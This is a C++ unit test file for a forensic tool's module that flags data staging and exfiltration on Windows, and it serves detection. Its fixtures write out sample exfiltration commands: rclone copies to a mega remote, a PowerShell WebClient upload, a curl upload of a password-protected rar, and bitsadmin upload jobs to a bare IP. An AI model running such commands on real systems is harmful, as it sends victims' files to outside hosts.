// Files put together or sent away.
#include <gmock/gmock.h>

#include "tests/modules/packing_cases.h"

namespace hozen {
namespace modules {
extern const ModuleSpec event_logs, staging;
}  // namespace modules
namespace {

using fake::at;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

ModuleRun judge_staging(std::vector<Fact> facts) {
  return judge_facts(modules::staging, std::move(facts));
}

TEST(Staging, UploadsOfOneToolToOnePlaceAreOneFinding) {
  const auto run = judge_staging(
      {process_fact(at(0), "C:\\T\\rclone.exe", "rclone copy C:\\PerfLogs\\hr mega:out"),
       process_fact(at(60), "C:\\T\\rclone.exe", "rclone copy C:\\PerfLogs\\fin mega:out")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const Finding& finding = run.context->findings[0];
  EXPECT_EQ(finding.rule, "staging.upload");
  EXPECT_EQ(finding.subject, "mega:out");
  EXPECT_GE(severity_of(finding), Severity::medium);
  EXPECT_THAT(story_of(finding), HasSubstr("C:\\PerfLogs\\fin"));
  EXPECT_THAT(finding.attack, Contains("T1567.002"));
  const auto rows = records_of(run, "file_transfer");
  ASSERT_THAT(rows, SizeIs(1));
  EXPECT_EQ((*rows[0])["commands"], "2");
  EXPECT_EQ(rows[0]->json_of("users"), R"(["PC\\eve"])");
  EXPECT_EQ(time_of(*rows[0], "last_command"), at(60));
}

TEST(Staging, ARenamedRcloneIsHigher) {
  const auto run = judge_staging(
      {process_fact(at(0), "C:\\T\\svc.exe",
                    "svc.exe copy C:\\Data mega:x --no-check-certificate --transfers 9")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::high);
  EXPECT_THAT(run.context->findings[0].attack, Contains("T1036.003"));
}

TEST(Staging, ScriptsAreReadToo) {
  const auto run = judge_staging({hand_made(
      FactKind::script, at(0), "", "s-1",
      {{"ScriptBlockText",
        "$w = New-Object "
        "Net.WebClient\n$w.UploadFile('http://203.0.113.9/u','C:\\PerfLogs\\a.rar')"}})});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_GE(severity_of(run.context->findings[0]), Severity::medium);
}

TEST(Staging, WhatBelongsToAPackingIsNotToldTwice) {
  const auto run =
      judge_staging({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
                     process_fact(at(60), "C:\\Windows\\System32\\curl.exe",
                                  "curl -T C:\\PerfLogs\\1.rar https://h.example")});
  EXPECT_THAT(run.context->findings, IsEmpty()) << fake::summary_of(run.context->findings);
}

TEST(Staging, EverydayTransfersAreLowAtTheMost) {
  const auto run = judge_staging(
      {process_fact(at(0), "C:\\Windows\\System32\\curl.exe",
                    "curl -T a.json http://localhost:9200/x"),
       process_fact(at(0), "C:\\Windows\\System32\\curl.exe",
                    "curl -F f=@a.zip https://ci.example"),
       process_fact(at(0), "C:\\T\\pscp.exe", "pscp a.conf adm@host:/etc"),
       process_fact(at(0), "C:\\Windows\\System32\\robocopy.exe", "robocopy D:\\x \\\\srv\\b /MIR"),
       process_fact(at(0), "C:\\Windows\\System32\\xcopy.exe", "xcopy D:\\a.zip \\\\srv\\b"),
       process_fact(at(0), "C:\\Windows\\System32\\ftp.exe",
                    "ftp -s:C:\\jobs\\send.txt h.example")});
  for (const Finding& finding : run.context->findings)
    EXPECT_LE(severity_of(finding), Severity::low) << finding.title;
  EXPECT_THAT(records_of(run, "file_transfer"), SizeIs(3));
}

TEST(Staging, WhatWebServersAndWindowsKeepIsSentByRight) {
  const auto run = judge_staging(
      {process_fact(at(0), "C:\\Windows\\System32\\curl.exe",
                    "curl -F f=@C:\\inetpub\\logs\\u.log https://log.example"),
       process_fact(at(1), "C:\\T\\scp.exe", "scp -r C:\\inetpub\\wwwroot adm@web2:/www"),
       process_fact(at(2), "C:\\Windows\\System32\\curl.exe",
                    "curl -T C:\\Windows\\Minidump\\1.dmp https://vendor.example")});
  for (const Finding& finding : run.context->findings)
    EXPECT_LE(severity_of(finding), Severity::low) << finding.title;
  const auto hidden =
      judge_staging({process_fact(at(0), "C:\\Windows\\System32\\curl.exe",
                                  "curl -T C:\\Windows\\Debug\\1.rar https://h.example")});
  ASSERT_THAT(hidden.context->findings, SizeIs(1));
  EXPECT_EQ(severity_of(hidden.context->findings[0]), Severity::medium);
}

TEST(Staging, FilesOfJobsOfBitsThatWereMadeToSend) {
  const auto bits = [](int seconds, const std::string& arguments, const char* user = "PC\\eve") {
    return hand_made(FactKind::process, at(seconds), "C:\\Windows\\System32\\bitsadmin.exe",
                     "p-" + std::to_string(seconds),
                     {{"CommandLine", "bitsadmin " + arguments}, {"User", user}});
  };
  const std::string kAdd = "/addfile \"j 1\" http://203.0.113.9/u C:\\PerfLogs\\hr.dat";
  const auto run = judge_staging(
      {bits(0, "/create /upload \"J 1\""), bits(60, kAdd), bits(120, "/resume \"j 1\"")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_GE(severity_of(run.context->findings[0]), Severity::medium);
  EXPECT_THAT(run.context->findings[0].attack, Contains("T1197"));
  EXPECT_THAT(story_of(run.context->findings[0]),
              HasSubstr("the job was made to send by: bitsadmin /create /upload \"J 1\""));
  const std::vector<std::vector<Fact>> others = {
      {bits(0, "/create \"j 1\""), bits(60, kAdd)},
      {bits(0, "/create /upload \"j 2\""), bits(60, kAdd)},
      {bits(0, "/create /upload \"j 1\"", "PC\\bob"), bits(60, kAdd)},
      {bits(0, "/create /upload \"j 1\""), bits(30, "/create \"j 1\""), bits(60, kAdd)},
      {bits(60, "/create /upload \"j 1\""), bits(0, kAdd)},
      {bits(0, kAdd)}};
  for (const auto& facts : others)
    EXPECT_THAT(judge_staging(facts).context->findings, IsEmpty()) << facts.size();
  // Typed lines have no times.
  const auto typed = judge_staging(
      {hand_made(
           FactKind::script, {}, "", "s-1",
           {{"ScriptBlockText", "bitsadmin /create /upload j1"}, {"source", "powershell_history"}}),
       hand_made(
           FactKind::script, {}, "", "s-2",
           {{"ScriptBlockText", "bitsadmin /addfile j1 http://203.0.113.9/u C:\\PerfLogs\\a.rar"},
            {"source", "powershell_history"}})});
  EXPECT_THAT(typed.context->findings, SizeIs(1));
}

Fact burst(const std::string& folder, const std::string& documents) {
  return usn_fact("burst", at(0), folder,
                  {{"count", "40"},
                   {"documents", documents},
                   {"last", at(60).iso8601()},
                   {"names", "a.docx\nb.xlsx"}});
}

TEST(Staging, CopiesIntoFoldersWhereNobodyWorks) {
  const auto run =
      judge_staging({burst("C:\\PerfLogs\\x", "35"), burst("C:\\Users\\Public\\x", "35"),
                     burst("C:\\Windows\\Debug", "2")});
  ASSERT_THAT(run.context->findings, SizeIs(2));
  const Finding& finding = run.context->findings[0];
  EXPECT_EQ(finding.rule, "staging.copies");
  EXPECT_EQ(severity_of(finding), Severity::medium);
  EXPECT_THAT(story_of(finding), HasSubstr("a.docx, b.xlsx"));
  EXPECT_THAT(story_of(finding), HasSubstr(at(60).iso8601()));
  EXPECT_EQ(severity_of(run.context->findings[1]), Severity::low);
}

TEST(Staging, JobsOfBitsToBareAddressesAreToldAndUpdatesAreNot) {
  const auto job = [](double seconds, const char* url) {
    return text_event("Microsoft-Windows-Bits-Client/Operational", 59, seconds,
                      {{"name", "j"}, {"url", url}, {"bytesTransferred", "77"}});
  };
  builders::EvtxBuilder log;
  log.event(job(0, "http://203.0.113.7/a.rar"))
      .event(job(1, "http://10.0.0.1/x"))
      .event(job(2, "https://au.download.windowsupdate.com/x"))
      .event(job(3, "https://intranet.example/x"));
  fake::FakeWindows windows;
  windows.file("C:\\Windows\\System32\\winevt\\Logs\\b.evtx", "").bytes = log.bytes();
  const auto run = run_and_judge({&modules::event_logs, &modules::staging}, windows);
  EXPECT_EQ(run.context->stated.facts(FactKind::network).size(), 3U);
  const auto found = findings_of(run, "staging.bits_job");
  ASSERT_THAT(found, SizeIs(1));
  EXPECT_EQ(found[0]->subject, "203.0.113.7");
  EXPECT_EQ(severity_of(*found[0]), Severity::low);
  EXPECT_THAT(story_of(*found[0]), HasSubstr("77 bytes"));
  EXPECT_THAT(found[0]->not_checked, Contains(HasSubstr("fetched or sent")));
}

}  // namespace
}  // namespace hozen
